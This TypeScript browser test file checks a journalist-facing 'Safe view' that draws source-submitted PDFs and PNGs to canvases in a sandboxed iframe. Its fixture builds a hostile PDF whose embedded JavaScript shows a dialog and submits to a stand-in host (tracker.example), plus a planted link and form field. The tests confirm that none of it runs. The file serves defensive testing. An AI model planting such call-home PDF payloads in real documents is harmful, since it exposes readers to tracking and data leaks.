import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { readJournalistKey } from '../../common/envelope/index.ts';
import { SAFE_VIEW_CSP } from '../../server/routes/journalist/safe-view.ts';
import { axeViolations } from '../helpers/axe.ts';
import { launchChromium } from '../helpers/browser.ts';
import { gotoConversation, storeSubmission, unlockKey } from '../helpers/conversation.ts';
import { startInstance, type Instance } from '../helpers/instance.ts';
import { loginInPage } from '../helpers/pages.ts';
import { newSource } from '../helpers/sources.ts';
import { makeAccount } from '../helpers/staff-client.ts';
import { MESSAGE_NAME, MESSAGE_TYPE } from '../../common/messages.ts';
import { manyPagesPdf, pdfOf, pngOf, rgbImage } from '../newsroom/fixtures.ts';
import { FORBIDDEN, inspectPdf } from '../newsroom/pdf-inspect.ts';

// The journalist page's Safe view (issue 24), in Chromium: a hostile PDF (JavaScript in an
// OpenAction and a page action, a link, a form field) and a PNG sent by a source, decrypted in the
// conversation page and drawn in <iframe sandbox="allow-scripts"> from GET /safe-view. The frame
// shows canvases with real pixels, cannot reach the page that holds the key or its cookies, cannot
// make a request, the PDF's JavaScript never runs, and the safe PDF it hands back holds only images.

let instance: Instance;
let work: string;
let browser: Awaited<ReturnType<typeof launchChromium>>;
let page: Page;
let source: string;
let pdfId: string;
let pngId: string;
let longId: string;
let messageId: string;
const dialogs: string[] = [];
const requests: string[] = [];
const violations: string[] = [];
const blocked: string[] = [];

const stream = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`;
/** Three pages with a blue box each; JavaScript that would show a dialog and call home, on open and on a page. */
function scriptedPdf(): Buffer {
  const js = "app.alert\\('pdf-javascript-ran'\\); this.submitForm\\('https://tracker.example/submit'\\)";
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /Annots [6 0 R 7 0 R] /AA << /O 4 0 R >> >>';
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names [(a) 4 0 R] >> >> /AcroForm << /Fields [7 0 R] >> >>',
    '<< /Type /Pages /Count 3 /Kids [3 0 R 8 0 R 9 0 R] >>',
    page,
    `<< /Type /Action /S /JavaScript /JS (${js}) >>`,
    stream('0 0 1 rg 72 300 300 150 re f'),
    '<< /Type /Annot /Subtype /Link /Rect [72 300 372 450] /A << /S /URI /URI (https://tracker.example/planted-uri) >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 372 640] /V (planted-field) /AA << /F 4 0 R >> >>',
    page,
    page,
  ]);
}

beforeAll(async () => {
  instance = await startInstance();
  work = await mkdtemp(path.join(os.tmpdir(), 'sealdrop-safeview-'));
  const account = await makeAccount(instance, 'desk');
  const keyFile = path.join(work, 'desk.asc');
  await writeFile(keyFile, account.privateKey);
  const recipients = [(await readJournalistKey(account.publicKey)).key];
  source = newSource(instance.store).id;
  pdfId = await storeSubmission(instance.store, source, { name: 'leak.pdf', type: 'application/pdf', data: scriptedPdf(), recipients });
  pngId = await storeSubmission(instance.store, source, { name: 'photo.png', type: 'image/png', data: pngOf(200, 120, rgbImage(200, 120)), recipients });
  longId = await storeSubmission(instance.store, source, { name: 'long.pdf', type: 'application/pdf', data: manyPagesPdf(60), recipients });
  messageId = await storeSubmission(instance.store, source, { name: MESSAGE_NAME, type: MESSAGE_TYPE, data: new TextEncoder().encode('A message, not a file.'), recipients });
  browser = await launchChromium({ downloads: true });
  // Chromium reports a load its CSP refused as a request that failed with the reason "csp", never sent.
  browser.context.on('request', (r) => void (r.frame().parentFrame() && requests.push(new URL(r.url()).pathname)));
  browser.context.on('requestfailed', (r) => void (r.frame().parentFrame() && blocked.push(`${new URL(r.url()).pathname} ${r.failure()?.errorText}`)));
  browser.context.on('console', (m) => void (m.text().includes('Content Security Policy') && violations.push(m.text())));
  page = await browser.context.newPage();
  page.on('dialog', (d) => void (dialogs.push(d.message()), d.dismiss()));
  await loginInPage(page, instance.journalistUrl, 'desk', account.passphrase, account.code());
  await gotoConversation(page, instance.journalistUrl, source);
  await unlockKey(page, keyFile);
}, 90_000);
afterAll(async () => {
  await browser?.close();
  await instance?.stop();
  await rm(work, { recursive: true, force: true });
});

const row = (id: string) => page.locator(`li.submission[data-submission="${id}"]`);

/** Opens the item's Safe view and returns its frame once it has drawn. */
async function safeView(id: string): Promise<Frame> {
  await row(id).locator('button.safe-view').click();
  const handle = await row(id).locator('iframe.safe-view-frame').elementHandle({ timeout: 30_000 });
  const frame = (await handle!.contentFrame())!;
  await frame.waitForSelector('#download:not([hidden])', { timeout: 30_000 });
  return frame;
}

/** Per canvas: its size and how many pixels are not white, read inside the frame. */
const inked = (frame: Frame) => frame.evaluate(() => [...document.querySelectorAll('canvas')].map((c) => {
  const d = c.getContext('2d')!.getImageData(0, 0, c.width, c.height).data;
  let n = 0;
  for (let i = 0; i < d.length; i += 4) if (d[i]! < 200 || d[i + 1]! < 200 || d[i + 2]! < 200) n++;
  return { width: c.width, height: c.height, inked: n };
}));

test('the frame page is sandboxed by its own CSP, with no connection, and its script is its own bundle', async () => {
  const res = await fetch(`${instance.journalistUrl}/safe-view`);
  expect(res.status).toBe(200);
  expect(res.headers.get('content-security-policy')).toBe(SAFE_VIEW_CSP);
  expect(SAFE_VIEW_CSP).toMatch(/connect-src 'none'.*sandbox allow-scripts/);
  expect(res.headers.get('set-cookie')).toBeNull();
  const conversation = await fetch(`${instance.journalistUrl}/`);
  expect(conversation.headers.get('content-security-policy')).toContain("frame-ancestors 'none'");
});

test('a hostile PDF is drawn to canvases in the sandboxed frame, its JavaScript never runs, and the frame reaches nothing', async () => {
  requests.length = 0;
  blocked.length = 0;
  const frame = await safeView(pdfId);
  expect(await frame.textContent('#status')).toBe('3 pages, drawn to pixels. Nothing of the file but its picture is shown.');
  const canvases = await inked(frame);
  expect(canvases).toHaveLength(3);
  for (const c of canvases) {
    expect([c.width, c.height]).toEqual([918, 1188]); // 612 x 792 points at 108 pixels per inch
    expect(c.inked).toBeGreaterThan(40_000); // the blue box, 450 x 225 pixels
  }
  expect(await frame.locator('#pages > :not(canvas)').count()).toBe(0);
  // An opaque origin: no way into the page that holds the key, no cookies, no storage.
  const reach = await frame.evaluate(async () => {
    const attempt = async (f: () => unknown) => { try { await f(); return 'allowed'; } catch (e) { return (e as Error).name; } };
    return {
      origin: window.origin,
      parent: await attempt(() => window.parent.document.title),
      cookie: await attempt(() => document.cookie),
      storage: await attempt(() => window.localStorage.length),
      fetch: await attempt(() => fetch('/conversations')),
      image: await new Promise((resolve) => { const img = new Image(); img.onload = () => resolve('loaded'); img.onerror = () => resolve('refused'); img.src = '/static/logo.png'; }),
    };
  });
  expect(reach).toEqual({ origin: 'null', parent: 'SecurityError', cookie: 'SecurityError', storage: 'SecurityError', fetch: 'TypeError', image: 'refused' });
  expect(await row(pdfId).locator('iframe.safe-view-frame').getAttribute('sandbox')).toBe('allow-scripts');
  // The only requests the frame sent were its page, its script and its style; its CSP stopped the others before they left.
  const stopped = blocked.filter((b) => b.endsWith(' csp')).map((b) => b.split(' ')[0]);
  expect(requests.filter((p) => !stopped.includes(p)).sort()).toEqual(['/safe-view', '/safe-view/frame.css', '/safe-view/frame.js']);
  expect(violations.join('\n')).toMatch(/Connecting to .*\/conversations' violates .*"connect-src 'none'"/);
  expect(violations.join('\n')).toMatch(/Loading the image .*\/static\/logo\.png' violates .*"img-src blob: data:"/);
  expect(dialogs).toEqual([]);
});

test('the safe PDF the frame hands back holds only images, one per page, and is offered as NAME.safe.pdf', async () => {
  const frame = page.frames().find((f) => f.url().endsWith('/safe-view'))!;
  await frame.click('#download');
  const link = row(pdfId).locator('a.safe-pdf');
  await link.waitFor();
  // The pointer was last in the frame: Chromium takes the page's first click back as a focus change.
  await page.click('h1');
  const [download] = await Promise.all([page.waitForEvent('download'), link.click()]);
  expect(download.suggestedFilename()).toBe('leak.safe.pdf');
  const file = path.join(work, 'leak.safe.pdf');
  await download.saveAs(file);
  const inspected = inspectPdf(file);
  expect(inspected.pages).toBe(3);
  expect(inspected.images).toBe(3);
  for (const key of FORBIDDEN) expect(inspected.keys.has(key), key).toBe(false);
  for (const content of inspected.contents) expect(content).toMatch(/^q [\d.]+ 0 0 [\d.]+ 0 0 cm \/I Do Q$/);
  expect(dialogs).toEqual([]);
});

test('a long PDF shows its first 50 pages and says so; a message has no Safe view', async () => {
  const frame = await safeView(longId);
  expect(await frame.textContent('#status')).toBe('The first 50 of 60 pages, drawn to pixels. For every page, make a safe copy with sealdrop safe-copy.');
  expect(await frame.locator('#pages canvas').count()).toBe(50);
  await page.locator(`li.submission.is-message[data-submission="${messageId}"]`).waitFor({ state: 'attached' });
  expect(await row(messageId).locator('button.safe-view').isVisible()).toBe(false);
  await page.click('h1'); // the first click after a frame was drawn goes to focus (as above)
  await row(longId).locator('button.safe-view-close').click();
  expect(await row(longId).locator('iframe').count()).toBe(0);
});

test('a PNG is drawn in its own frame; the page with the Safe view open passes axe and fits 360 px', async () => {
  const frame = await safeView(pngId);
  expect(await frame.textContent('#status')).toBe('The image, drawn to pixels.');
  expect(await inked(frame)).toEqual([{ width: 200, height: 120, inked: expect.any(Number) }]);
  expect((await inked(frame))[0]!.inked).toBeGreaterThan(1000);
  expect(await axeViolations(page)).toEqual([]);
  await page.setViewportSize({ width: 360, height: 740 });
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360);
  // Locking the key takes every Safe view off the page.
  await page.click('h1'); // as above: the first click after a frame was drawn goes to focus
  await page.click('#lock-key');
  await page.waitForSelector('#key-status:text("locked")');
  await expect.poll(() => page.locator('iframe.safe-view-frame').count()).toBe(0);
  expect(dialogs).toEqual([]);
});
